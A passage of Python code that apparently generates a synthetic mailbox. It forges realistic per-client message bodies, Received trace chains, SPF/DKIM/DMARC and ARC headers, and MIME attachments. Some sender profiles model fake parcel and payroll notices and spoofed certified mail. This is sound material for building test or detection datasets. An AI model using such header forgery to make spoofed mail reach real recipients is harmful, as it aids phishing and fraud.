        return (f"\n\n\n\nDa:\t\"{name}\" <{email}>\nA:\t{_tos(q['to'])}\nData:\t{t:%d/%m/%Y %H:%M}\nOggetto:\t{q['subj']}\n\n\n\n" + q["plain"])
    return "\n\n" + _lines(q["plain"])


def _esc(plain): return "<br>\n".join(H.escape(l) for l in plain.split("\n"))


def html_of(client, plain, lang="it"):
    esc = _esc(plain)
    if client in ("ol", "exo", "exofr", "olatk"):
        lg = {"it": "IT", "fr": "FR", "en": "EN-US"}[lang]
        paras = "\n".join(f'<p class="MsoNormal">{H.escape(l) if l else "<o:p>&nbsp;</o:p>"}<o:p></o:p></p>' for l in plain.split("\n"))
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
                'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" '
                'content="text/html; charset=utf-8">\n<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
                '/* Style Definitions */\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Calibri",sans-serif;\n\t'
                f'mso-ligatures:standardcontextual;}}\n@page WordSection1\n\t{{size:612.0pt 792.0pt;\n\tmargin:70.85pt 2.0cm 2.0cm 2.0cm;}}\n--></style>\n</head>\n'
                f'<body lang="{lg}" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n<div class="WordSection1">\n{paras}\n</div>\n</body>\n</html>')
    if client in ("owa", "outlookcom"):
        return ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n<style type="text/css" style="display:none;"> '
                'P {margin-top:0;margin-bottom:0;} </style>\n</head>\n<body dir="ltr">\n<div class="elementToProof" style="font-family: Aptos, '
                'Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">\n' + esc + "</div>\n</body>\n</html>")
    if client in ("oxl", "oxv", "privateemail"):
        return ('<!doctype html>\n<html>\n <head> \n  <meta charset="UTF-8"> \n </head>\n <body>\n  <div class="default-style">\n   ' + esc
                + '\n  </div>\n </body>\n</html>')
    if client == "orange":
        return ('<html><head></head><body><div style="font-family: arial, helvetica, sans-serif; font-size: 10pt; color: #000000;"><p>' + esc
                + "</p></div></body></html>")
    if client == "apple":
        return ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; '
                '-webkit-nbsp-mode: space; line-break: after-white-space;">' + esc + "</body></html>")
    if client in ("iphonefr", "iphoneit"):
        return '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body dir="auto">' + esc + "</body></html>"
    if client in ("gmailfr", "gws", "gmail"): return '<div dir="ltr">' + esc + "</div>\n"
    if client == "gmailand": return '<div dir="auto">' + esc + "</div>\n"
    if client == "notes":
        return ('<html><body><p><font size=2 face="sans-serif">' + esc.replace("<br>\n", "<br>") + "</font></p></body></html>")
    return None


def rfc(t, tz=None): return (t.astimezone(tz) if tz else t).strftime("%a, %d %b %Y %H:%M:%S %z")
def rfcu(t): return t.astimezone(UTC).strftime("%a, %-d %b %Y %H:%M:%S +0000")
def pac(t): return t.astimezone(PAC).strftime("%a, %d %b %Y %H:%M:%S %z (%Z)")
def rfcz(t): return t.astimezone(UTC).strftime("%a, %d %b %Y %H:%M:%S +0000 (UTC)")


def fmt_infra(infra, who):
    helo, ip, d, s, dmarc, envdom = INFRA[infra]
    if infra in ("iol-libero", "iol-virgilio"):
        n = R.choice((31, 33, 35, 38)); return helo.format(n), ip.format(n), d, s, dmarc, envdom
    if infra in ("aruba-own", "aruba-valdarno"):
        return helo, ip.format(R.choice((161, 162, 163, 164))), d, s, dmarc, envdom
    if infra == "orange":
        n = R.choice((16, 18, 20, 26)); return helo.format(n), ip.format(n + 200), d, s, dmarc, envdom
    if infra == "ovh":
        n = R.choice((561, 562, 564)); return helo.format(n), ip.format(R.randint(32, 63), R.randint(1, 250)), d, s, dmarc, envdom
    if infra in ("gmail", "gws-hudson"):
        p = R.choice((("ej1", 54, 218), ("wm1", 47, 128), ("yw1", 177, 128), ("qt1", 173, 160))) if infra == "gmail" else R.choice((("qk1", 169, 222), ("qv1", 172, 219), ("yb1", 182, 219)))
        return helo.format(p[0], p[1]), ip.format(p[2], p[1]), d, s, dmarc, envdom
    if "{}" in helo or "{}" in ip:
        n = R.randint(2, 250)
        return helo.format(*([n] * helo.count("{}"))), ip.format(*([R.randint(2, 250) for _ in range(ip.count("{}"))])), d, s, dmarc, envdom
    return helo, ip, d, s, dmarc, envdom


def sender_hops(who, infra, client, t, env, opt):
    """Received lines (and extra trace headers) written on the sender's side, newest first"""
    hops, trace = [], []
    if infra in ("aruba-own", "aruba-valdarno"):
        if client == "sieve":
            hops.append(("Received", f"from imapdh05.aruba.example ([10.10.12.15])\n\tby Aruba Outgoing Smtp  with ESMTP\n\tid {alnum(20)}; {rfc(t, ROME)}"))
        elif client == "roundcube":
            hops.append(("Received", f"from webmaildh{R.randint(3, 8):02d}.aruba.example ([10.10.10.{R.randint(40, 90)}])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n"
                                     f"\tid {alnum(20)}; {rfc(t, ROME)}"))
            trace.append(("X-Originating-IP", opt["ip"]))
        else:
            helo = opt.get("cliehelo") or {"roberto.arnolfi": "PC-ROBERTO", "elena.bruni": "AMMINISTR-02", "m.bellucci": "UFFCOMM-PC03",
                                       "amministrazione": "AMM-VALDARNO1"}.get(who.email.split("@")[0]) or fixed("helo-" + who.email, lambda: "DESKTOP-" + HX(7))
            ip = opt.get("ip") or (OFFICE_IP if who.dom == OWN else "151.11.48.93")
            hops.append(("Received", f"from {helo} ([{ip}])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid {alnum(20)}; {rfc(t, ROME)}"))
    elif infra in ("iol-libero", "iol-virgilio"):
        hops.append(("Received", f"from {who.dom} ([10.101.8.{R.randint(40, 70)}])\n\tby {opt['helo'].split('.')[0]}.iol.local with ESMTPA\n\tid {alnum(22)}; {rfc(t, ROME)}"))
    elif infra.startswith("exo-"):
        host, reg = exo_host(who); pfx = EXO[who.dom][2]; bld = exbuild(t)
        host2 = host[:-4] + str(R.randint(1000, 9999))
        hops.append(("Received", f"from {host}.{reg}.prod.outlook.com ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by {host}.{reg}.prod.outlook.com\n"
                                 f" ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%{R.randint(3, 7)}]) with mapi id {bld}; {rfcu(t)}"))
        hops.insert(0, ("Received", f"from {host}.{reg}.prod.outlook.com ({pfx}:{hx(3)}::{hx(2)}) by\n {host2}.{reg}.prod.outlook.com ({pfx}:{hx(3)}::{hx(1)})"
                                    f" with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {bld}; {rfcu(t + TD(seconds=1))}"))
        trace += [("ARC-Seal", f"i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={b64(120)}"),
                  ("ARC-Message-Signature", f"i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n bh={b64(32)};\n b={b64(120)}"),
                  ("ARC-Authentication-Results", f"i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={who.dom}; dmarc=pass action=none\n header.from={who.dom}; dkim=pass header.d={who.dom}; arc=none")]
    elif infra == "btc":
        hops.append(("Received", f"from NOTESMAIL01.btc.local ([10.40.1.21])\n\tby mailgw02.bancatoscanacredito.example (Postfix) with ESMTP id {HX(10)}\n"
                                 f"\tfor <{me.email}>; {rfc(t + TD(seconds=3), ROME)}"))
    elif infra == "btc-notif":
        hops.append(("Received", f"from app-notify04.btc.local (unknown [10.40.8.14])\n\tby mta03.comunicazioni.bancatoscanacredito.example (Postfix) with ESMTP id {HX(10)}\n"
                                 f"\tfor <{me.email}>; {rfc(t + TD(seconds=2), ROME)}"))
    elif infra == "orange":
        helo, ip = opt.get("mehelo"), opt.get("meip")
        if client == "iphonefr": helo, ip = "smtpclient.apple", opt.get("meip") or f"37.169.{R.randint(1, 250)}.{R.randint(1, 250)}"
        elif not helo: helo = f"wwinf{R.randint(2201, 2246)}"; ip = f"10.232.{R.randint(100, 130)}.{R.randint(1, 250)}"
        hops.append(("Received", f"from {helo} ([{ip}])\n\tby mwinf5d{R.randint(10, 70)} with ME\n\tid {alnum(22)}; {rfc(t, PAR)}"))
        trace += [("X-ME-Helo", helo), ("X-ME-Auth", base64.b64encode(who.email.encode()).decode()), ("X-ME-Date", rfc(t, PAR)), ("X-ME-IP", ip)]
    elif infra == "ovh":
        d = R.randint(1, 6); g = f"ghost-submission-{hx(10)}-{alnum(5).lower()}"; cip = opt.get("ip") or f"82.65.{R.randint(100, 130)}.{R.randint(1, 250)}"
        hops += [("Received", f"from director{d}.ghost.mail-out.ovh.example (unknown [10.108.{R.randint(1, 60)}.{R.randint(1, 250)}])\n\tby {opt['helo']} (Postfix) with ESMTP id 4{alnum(11)}\n"
                              f"\tfor <{me.email}>; {rfcz(t + TD(seconds=1))}"),
                 ("Received", f"from {g} (unknown [10.110.{R.randint(100, 190)}.{R.randint(1, 250)}])\n\tby director{d}.ghost.mail-out.ovh.example (Postfix) with ESMTPS id {alnum(11)}\n"
                              f"\tfor <{me.email}>; {rfcz(t + TD(seconds=1))}"),
                 ("Received", f"from maison-ardoise.example ([{cip}])\n\tby {g} with ESMTPSA\n\tid {ruuid()}\n\t(envelope-from <{who.email}>); {rfcz(t)}")]
        trace += [("Authentication-Results", f"garm.ovh; auth=pass (GARM-{R.randint(95, 104)}R00{R.randint(1, 9)}{hx(11)}, {ruuid()}) smtp.auth={who.email}"),
                  ("X-OVh-ClientIp", cip), ("X-Ovh-Tracer-Id", f"{R.randint(10**18, 10**19 - 1)}"), ("X-VR-SPAMSTATE", "OK"), ("X-VR-SPAMSCORE", "-100"),
                  ("X-VR-SPAMCAUSE", "gggruggvucftvghtrhhoucdtuddrgeeftddr" + alnum(40).lower() + "\n " + alnum(60).lower())]
    elif infra in ("gmail", "gws-hudson"):
        hops.append(("Received", f"by {opt['helo']} with SMTP id {alnum(10).lower()}{digits(6)}{hx(6)}so{digits(7)}{alnum(3).lower()}.1\n        for <{me.email}>; {pac(t)}"))
        trace += [("X-Google-DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={int(t.timestamp())}; x={int(t.timestamp()) + 604800};\n"
                                              f"        h=to:subject:message-id:date:from:in-reply-to:references:mime-version\n         :x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;\n"
                                              f"        bh={b64(32)};\n        b={b64(240)[:300]}"),
                  ("X-Gm-Message-State", "AOJu0Y" + alnum(60)), ("X-Google-Smtp-Source", "AGHT+I" + alnum(80)),
                  ("X-Received", f"by 2002:a05:{hx(4)}:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(20).lower()}.{R.randint(10, 99)}.{int(t.timestamp())}{R.randint(100, 999)};\n        {pac(t)}")]
    elif infra == "chianti":
        if client == "roundcube":
            hops += [("Received", f"from webmail.chiantinformatica.example (localhost [127.0.0.1])\n\t(Authenticated sender: {who.email})\n"
                                  f"\tby mail.chiantinformatica.example (Postfix) with ESMTPA id {HX(10)}\n\tfor <{me.email}>; {rfc(t + TD(seconds=1), ROME)}"),
                     ("Received", f"from {opt['ip']} ([{opt['ip']}])\n\tvia [127.0.0.1]\n\tby webmail.chiantinformatica.example\n\twith HTTP (HTTP/1.1 POST); {rfc(t, ROME)}")]
        else:
            x = R.randint(20, 29)
            hops.append(("Received", f"from [192.168.10.{x}] (host-93-146-201-{x}.business.telecomitalia.example [93.146.201.{x}])\n\t(Authenticated sender: {who.email})\n"
                                     f"\tby mail.chiantinformatica.example (Postfix) with ESMTPSA id {HX(10)}\n\tfor <{me.email}>; {rfc(t + TD(seconds=1), ROME)}"))
    elif infra == "outlookcom":
        h = fixed("olc-" + who.email, lambda: f"DU0P189MB{R.randint(1000, 9999)}")
        hops.append(("Received", f"from {h}.EURP189.PROD.OUTLOOK.COM ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by {h}.EURP189.PROD.OUTLOOK.COM\n"
                                 f" ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%{R.randint(3, 7)}]) with mapi id {exbuild(t)}; {rfcu(t)}"))
    elif infra == "look-fracassi":
        hops.append(("Received", f"from [{opt['ip']}] (port={R.randint(50000, 65000)} helo=[192.168.1.{R.randint(2, 60)}])\n\tby {opt['helo']} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
                                 f"\t(Exim 4.97.1)\n\t(envelope-from <{env}>)\n\tid 1t{alnum(4)}-000{alnum(3)}-{alnum(2)}\n\tfor {me.email};\n\t{rfc(t, UTC)}"))
    elif infra == "look-hudson":
        hops += [("Received", f"from MTA-{R.randint(10, 20)}.privateemail.example (localhost [127.0.0.1])\n\tby {opt['helo']} (Postfix) with ESMTP id 4{alnum(11)}\n"
                              f"\tfor <{me.email}>; {rfc(t + TD(seconds=1), NYC)}"),
                 ("Received", f"from [192.168.1.{R.randint(100, 140)}] (unknown [{opt['ip']}])\n\tby MTA-{R.randint(10, 20)}.privateemail.example (Postfix) with ESMTPA;\n\t{rfc(t, NYC)}")]
    elif infra in ("fake-giacenza", "fake-paghe", "pec-spoof"):
        if opt.get("php"):
            hops.append(("Received", f"from {opt.get('user', 'www-data')} by {opt['helo']} with local (Exim 4.96)\n\t(envelope-from <{env}>)\n\tid 1t{alnum(4)}-00{alnum(4)}-{alnum(2)}\n"
                                     f"\tfor {me.email}; {rfc(t, UTC)}"))
            trace.append(("X-PHP-Script", opt["php"]))
        else:
            hops.append(("Received", f"from [{opt['ip']}] (port={R.randint(50000, 65000)} helo=[{opt.get('cliehelo', 'DESKTOP-' + HX(7))}])\n\tby {opt['helo']} with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n"
                                     f"\t(Exim 4.96.2)\n\t(envelope-from <{env}>)\n\tid 1t{alnum(4)}-00{alnum(4)}-{alnum(2)}\n\tfor {me.email}; {rfc(t, UTC)}"))
    elif infra == "velocex":
        hops.append(("Received", f"from tt-app03.velocexpress.local (unknown [10.20.3.13])\n\tby mailout2.notifiche.velocexpress.example (Postfix) with ESMTP id {HX(10)}\n"
                                 f"\tfor <{me.email}>; {rfc(t + TD(seconds=1), ROME)}"))
    elif infra == "legalmail":
        hops.append(("Received", f"from pec-mx03.pec.example ([10.10.30.13])\n\tby {opt['helo']} (Postfix) with ESMTP id {HX(10)}\n\tfor <{me.email}>; {rfc(t + TD(seconds=4), ROME)}"))
        src = opt.get("pec_src")
        if src:
            hops.append(("Received", f"from {src} ({src} [{opt['pec_ip']}])\n\tby pec-mx03.pec.example (Postfix) with ESMTPS id {HX(10)}\n"
                                     f"\tfor <pelletteriaarnolfi@pec.example>; {rfc(t + TD(seconds=2), ROME)}"))
        else:
            hops.append(("Received", f"from pec-gw02.pec.example ([10.10.30.22])\n\tby pec-mx03.pec.example (Postfix) with ESMTP id {HX(10)}\n"
                                     f"\tfor <pelletteriaarnolfi@pec.example>; {rfc(t + TD(seconds=1), ROME)}"))
    elif infra == "mailman":
        hops += [("Received", f"from liste.cna-toscana.example (localhost [127.0.0.1])\n\tby liste.cna-toscana.example (Postfix) with ESMTP id {HX(10)}\n"
                              f"\tfor <{me.email}>; {rfc(t + TD(seconds=6), ROME)}"),
                 ("Received", f"from {opt['member_host']} ({opt['member_host']} [{opt['member_ip']}])\n\tby liste.cna-toscana.example (Postfix) with ESMTPS id {HX(10)}\n"
                              f"\tfor <export-moda@liste.cna-toscana.example>; {rfc(t + TD(seconds=3), ROME)}")]
    elif infra in ("mc-scap", "cciaa", "aruba-notice", "docusign"):
        hops.append(("Received", f"from {opt['helo'].split('.')[0]}-int (unknown [10.{R.randint(1, 60)}.{R.randint(1, 250)}.{R.randint(1, 250)}])\n\tby {opt['helo']} with ESMTP id {alnum(16)}\n"
                                 f"\tfor <{me.email}>; {rfcz(t + TD(seconds=1))}"))
    return hops, trace


def transport(who, t, client, env=None, infra=None, opt=None, from_dom=None):
    opt = dict(opt or {})
    infra = infra or who.infra
    helo, ip, d, s, dmarc, envdom = fmt_infra(infra, who)
    opt.setdefault("helo", helo)
    env = env or who.email
    if envdom and envdom != "pec.example": env = f"bounce-{hx(8)}-{who.email.split('@')[0]}@{envdom}" if infra not in ("mailman",) else f"export-moda-bounces@{envdom}"
    tmx = t + TD(seconds=R.randint(3, 18))
    mx = R.choice(ARUBA_MX)
    fromdom = from_dom or who.dom
    envd = env.split("@")[1]
    if "dmarc" in opt: dmarc = opt["dmarc"]
    dk_ok = bool(s)
    align = lambda a: a == fromdom or fromdom.endswith("." + a) or a.endswith("." + fromdom)
    auth = f"{mx};\n\tspf=pass smtp.mailfrom={env};\n\t"
    auth += f"dkim=pass header.d={d} header.s={s} header.b={alnum(8)};\n\t" if dk_ok else "dkim=none;\n\t"
    if opt.get("orig_dkim"): auth += f"dkim=fail (body hash did not verify) header.d={opt['orig_dkim'][0]} header.s={opt['orig_dkim'][1]} header.b={alnum(8)};\n\t"
    if dmarc is None: auth += f"dmarc=none header.from={fromdom}"
    elif (dk_ok and align(d)) or align(envd): auth += f"dmarc=pass (p={dmarc}) header.from={fromdom}"
    else: auth += f"dmarc=fail (p={dmarc}) header.from={fromdom}"
    top = [("Return-Path", f"<{env}>"), ("Delivered-To", me.email),
           ("Received", f"from {mx} ([10.10.{R.randint(10, 30)}.{R.randint(10, 90)}])\n\tby imapdh{R.randint(2, 9):02d}.aruba.example with LMTP\n\tid {b64(15).rstrip('=')}\n"
                        f"\t(envelope-from <{env}>)\n\tfor <{me.email}>; {rfc(tmx + TD(seconds=1), ROME)}"),
           ("Received", f"from {helo} ({helo} [{ip}])\n\tby {mx} with ESMTPS\n\tid {alnum(20)}; {rfc(tmx, ROME)}"),
           ("Received-SPF", f"pass ({mx}: domain of {env} designates {ip} as permitted sender) client-ip={ip}; envelope-from=<{env}>; helo={helo};"),
           ("Authentication-Results", auth), ("X-Spam-Score", f"{R.choice(('-0.1', '0.0', '0.3', '0.8', '1.2', '-1.0'))}")]
    hops, trace = sender_hops(who, infra, client, t, env, opt)
    dk = []
    if s:
        dk = [("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s={s};\n\tt={int(t.timestamp())}; bh={b64(32)};\n"
                                 f"\th=From:To:Subject:Date:Message-ID:In-Reply-To:References:Content-Type:MIME-Version;\n\tb={b64(180)}")]
    if opt.get("orig_dkim"): dk.append(("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={opt['orig_dkim'][0]}; s={opt['orig_dkim'][1]};\n\tt={int(t.timestamp()) - 20}; bh={b64(32)};\n\th=From:To:Subject:Date:Message-ID;\n\tb={b64(180)}"))
    return top + hops + trace + dk


# ---------------------------------------------------------------- MIME building
def enc_h(v, style="Q", cs="UTF-8"):
    if v.isascii(): return v
    ws = v.split(" ")
    k = next(i for i, w in enumerate(ws) if not w.isascii())
    if k > 0: return " ".join(ws[:k]) + " " + _enc_words(" ".join(ws[k:]), style, cs)
    return _enc_words(v, style, cs)


def _enc_words(v, style, cs):
    words, cur = [], ""
    pre, suf = f"=?{cs}?{style}?", "?="
    if style == "B":
        chunk = ""
        for ch in v:
            if len(base64.b64encode((chunk + ch).encode()).decode()) + len(pre) + 2 > 75:
                words.append(pre + base64.b64encode(chunk.encode()).decode() + suf); chunk = ""
            chunk += ch
        words.append(pre + base64.b64encode(chunk.encode()).decode() + suf)
    else:
        for ch in v:
            e = "_" if ch == " " else (ch if (ch.isascii() and (ch.isalnum() or ch in "!*+-/")) else "".join(f"={b:02X}" for b in ch.encode()))
            if len(pre) + len(cur) + len(e) + 2 > 75: words.append(pre + cur + suf); cur = ""
            cur += e
        words.append(pre + cur + suf)
    return "\n ".join(words)


def addr(n, e, style="Q"):
    if not n: return e
    if not n.isascii(): return enc_h(n, style) + f" <{e}>"
    return f'"{n}" <{e}>' if any(c in n for c in '.,|()@:;<>"&') else f"{n} <{e}>"


def qp(text, cs="utf-8"): return quopri.encodestring(text.encode(cs)).decode("ascii")
def b64wrap(data): return base64.encodebytes(data).decode().rstrip("\n")
def leaf(ct, body, cte=None, extra=()): return {"h": [("Content-Type", ct)] + ([("Content-Transfer-Encoding", cte)] if cte else []) + list(extra), "body": body}
def multi(sub, parts, bnd, params="", extra=()): return {"h": [("Content-Type", f'multipart/{sub};{params}\n\tboundary="{bnd}"')] + list(extra), "parts": parts, "b": bnd}


def ser(node):
    if "parts" not in node: return node["body"].split("\n")
    out = []
    for p in node["parts"]:
        out += [f"--{node['b']}"] + [f"{k}: {v}" for k, v in p["h"]] + [""] + ser(p)
    return out + [f"--{node['b']}--", ""]


def flowed(text, width=72):
    out = []
    for line in text.split("\n"):
        if line == "-- ": out.append(line); continue
        if line.startswith(">") or len(line) <= width: out.append(line.rstrip(" ") if line.strip() else line); continue
        words = line.split(" "); cur = ""
        for w in words:
            if cur and len(cur) + len(w) + 1 > width: out.append(cur + " "); cur = w
            else: cur = (cur + " " + w) if cur else w
        out.append(cur)
    return "\n".join(out)


def textpart(client, sub, text):
    ct = f"text/{sub}"
    if client == "tb" and sub == "plain":
        return leaf(f"{ct}; charset=UTF-8; format=flowed", flowed(text), "7bit" if text.isascii() else "8bit")
    if client == "roundcube" and sub == "plain":
        return leaf(f"{ct}; charset={'US-ASCII' if text.isascii() else 'UTF-8'};\n format=flowed", flowed(text, 76), "7bit" if text.isascii() else "8bit")
    if client in ("apple", "iphonefr", "iphoneit"):
        if text.isascii() and sub == "plain": return leaf(f"{ct};\n\tcharset=us-ascii", text, "7bit")
        return leaf(f"{ct};\n\tcharset=utf-8", qp(text), "quoted-printable")
    if client in ("gmailfr", "gmailand", "gws", "gmail"):
        if text.isascii() and max(len(x) for x in text.split("\n")) < 990: return leaf(f'{ct}; charset="UTF-8"', text)
        return leaf(f'{ct}; charset="UTF-8"', qp(text), "quoted-printable")
    if client in ("ol", "olatk"): return leaf(f'{ct};\n\tcharset="utf-8"', qp(text), "quoted-printable")
    if client in ("exo", "exofr", "owa", "outlookcom"): return leaf(f'{ct}; charset="utf-8"', qp(text), "quoted-printable")
    if client in ("oxl", "oxv", "privateemail"):
        return leaf(f"{ct}; charset=UTF-8", text if text.isascii() else qp(text), "7bit" if text.isascii() else "quoted-printable")
    if client == "notes":
        try: text.encode("iso-8859-1"); cs = "ISO-8859-1"
        except UnicodeEncodeError: cs = "UTF-8"
        return leaf(f"{ct}; charset={cs}", qp(text, cs.lower()), "quoted-printable")
    return leaf(f"{ct}; charset=UTF-8", qp(text), "quoted-printable")


def att_part(client, name, data, ctype, t):
    if client in ("gmailfr", "gmailand", "gws", "gmail"):
        return leaf(f'{ctype}; name="{name}"', b64wrap(data), None, [("Content-Disposition", f'attachment; filename="{name}"'), ("Content-Transfer-Encoding", "base64"),
                                                                    ("Content-ID", f"<f_{alnum(9).lower()}0>"), ("X-Attachment-Id", f"f_{alnum(9).lower()}0")])
    if client in ("ol", "olatk", "exo", "exofr", "owa", "outlookcom"):
        dt = t.astimezone(UTC).strftime("%a, %d %b %Y %H:%M:%S GMT")
        return leaf(f'{ctype}; name="{name}"', b64wrap(data), "base64", [("Content-Description", name), ("Content-Disposition", f'attachment; filename="{name}"; size={len(data)};\n\tcreation-date="{dt}";\n\tmodification-date="{dt}"')])
    if client in ("apple", "iphonefr", "iphoneit"):
        return {"h": [("Content-Disposition", f"attachment;\n\tfilename={name}"), ("Content-Type", f'{ctype};\n\tx-unix-mode=0644;\n\tname="{name}"'),
                      ("Content-Transfer-Encoding", "base64")], "body": b64wrap(data)}
    if client in ("oxl", "oxv", "privateemail"):
        return leaf(f"{ctype}; name={name}", b64wrap(data), "base64", [("Content-Disposition", f"attachment; filename={name}")])
    if client == "notes":
        return leaf(f'{ctype}; name="{name}"', b64wrap(data), "base64", [("Content-Disposition", f'attachment; filename="{name}"')])
    return leaf(f'{ctype};\n name="{name}"', b64wrap(data), "base64", [("Content-Disposition", f'attachment;\n filename="{name}"')])


def boundary(client, who, t):
    if client in ("ol", "olatk"):
        ft = filetime(t); return lambda k: f"----=_NextPart_00{k}_{R.randint(0, 255):04X}_{ft >> 32:08X}.{ft & 0xffffffff:08X}"
    if client in ("exo", "exofr", "owa"): return lambda k: f"_00{k}_{exo_host(who)[0]}{HX(16)}_"
    if client == "outlookcom": return lambda k: f"_00{k}_DU0P189MB{HX(20)}_"
    if client in ("oxl", "oxv", "privateemail", "orange"): return lambda k: f"----=_Part_{R.randint(10000, 999999)}_{R.randint(10**8, 2 * 10**9)}.{int(t.timestamp() * 1000)}"
    if client in ("apple", "iphonefr", "iphoneit"): return lambda k: f"Apple-Mail={ruuid().upper()}" if client == "apple" else f"Apple-Mail-{ruuid().upper()}"
    if client in ("gmailfr", "gmailand", "gws", "gmail"): return lambda k: "000000000000" + hx(16)
    if client == "tb": return lambda k: "------------" + alnum(24)
    if client == "roundcube": return lambda k: "=_" + hx(32)
    if client == "notes": return lambda k: f"=_{'alternative' if k == 1 else 'mixed'} {HX(8)}C1258{HX(3)}_="
    return lambda k: "----=_Part_" + hx(20)


def build_tree(client, who, t, plain, html, atts):
    bd = boundary(client, who, t)
    body = textpart(client, "plain", plain)
    if html:
        body = multi("alternative", [body, textpart(client, "html", html)], bd(1))
    if atts:
        body = multi("mixed", [body] + [att_part(client, n, d, c, t) for n, d, c in atts], bd(0))
    return body


pending = []  # (arrival utc, seq, folder, raw, (mid, label) or None, scenario)
seq = [0]
SENT_CLIENTS = {}


def emit(who, client, t, to, cc, subj, refs, plain, html=None, atts=(), extra=(), label=None, infra=None, env=None, frm=None,
         irt=None, mid=None, tidx=None, topic=None, scen=None, folder=None, no_html=False, opt=None, tree=None, from_dom=None, lang=None):
    m = mid or make_mid(who, client, t)
    folder = folder or ("Sent" if who is me else "INBOX")
    lang = lang or who.lang
    date = t.strftime("%a, %d %b %Y %H:%M:%S %z")
    style = "B" if client in ("gws", "gmail", "gmailfr", "gmailand") and False else "Q"
    fromh = frm or addr(who.name, who.email, style)
    toh = ", ".join(addr(n, e, style) for n, e in to)
    cch = ", ".join(addr(n, e, style) for n, e in cc) if cc else None
    sj = enc_h(subj, style)
    if tree is None:
        if html is None and not no_html: html = html_of(client, plain, lang)
        tree = build_tree(client, who, t, plain, html, atts)
    cth = tree["h"]
    refh = "\n ".join(refs) if refs else None
    irth = irt or (refs[-1] if refs else None)
    H_ = []
    def a(k, v):
        if v is not None: H_.append((k, v))
    opt = dict(opt or {})
    if client in ("ol", "olatk"):
        a("From", fromh); a("To", toh); a("Cc", cch); a("References", refh); a("In-Reply-To", irth); a("Subject", sj); a("Date", date); a("Message-ID", m)
        a("MIME-Version", "1.0"); H_.extend(cth); a("X-Mailer", "Microsoft Outlook 16.0"); a("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode())
        a("Content-Language", {"it": "it", "fr": "fr", "en": "en-us"}[lang])
    elif client in ("exo", "exofr", "owa", "outlookcom"):
        a("From", fromh); a("To", toh); a("Cc", cch); a("Subject", sj); a("Thread-Topic", enc_h(topic or subj, style)); a("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode())
        a("Date", date); a("Message-ID", m); a("References", refh); a("In-Reply-To", irth)
        lg = {"exo": "it-IT", "exofr": "fr-FR", "owa": "en-US", "outlookcom": "en-US"}[client]
        a("Accept-Language", lg + (", en-US" if lg != "en-US" else "")); a("Content-Language", lg)
        a("X-MS-Has-Attach", "yes" if atts else ""); a("X-MS-TNEF-Correlator", "")
        if client != "outlookcom" and who.dom in TENANT:
            a("msip_labels", "")
        H_.extend(cth); a("MIME-Version", "1.0")
        if who.dom in TENANT and folder == "INBOX":
            host, reg = exo_host(who)
            H_.extend([("X-MS-Exchange-CrossTenant-Network-Message-Id", ruuid()), ("X-MS-Exchange-CrossTenant-originalarrivaltime", f"{t.astimezone(UTC):%d %b %Y %H:%M:%S.%f}"[:-3] + " (UTC)"),
                       ("X-MS-Exchange-CrossTenant-fromentityheader", "Hosted"), ("X-MS-Exchange-CrossTenant-id", TENANT[who.dom]),
                       ("X-MS-Exchange-CrossTenant-mailboxtype", "HOSTED"), ("X-MS-Exchange-Transport-CrossTenantHeadersStamped", host[:-4] + str(R.randint(1000, 9999)))])
    elif client in ("oxl", "oxv", "privateemail"):
        a("Date", date); a("From", fromh); a("To", toh); a("Cc", cch); a("Message-ID", m); a("In-Reply-To", irth); a("References", refh); a("Subject", sj)
        a("MIME-Version", "1.0"); H_.extend(cth); a("X-Priority", "3"); a("Importance", "Normal")
        a("X-Mailer", "Open-Xchange Mailer v7.10.6-Rev" + ("64" if client != "privateemail" else "71"))
        if client != "privateemail": a("X-Originating-IP", opt.get("xoip") or getattr(who, "xoip", None)); a("X-Originating-Client", "open-xchange-appsuite")
        else: a("X-Originating-Client", "open-xchange-appsuite")
    elif client == "orange":
        a("Date", date); a("From", fromh); a("Reply-To", fromh); a("To", toh); a("Cc", cch); a("Message-ID", m); a("In-Reply-To", irth); a("References", refh); a("Subject", sj)
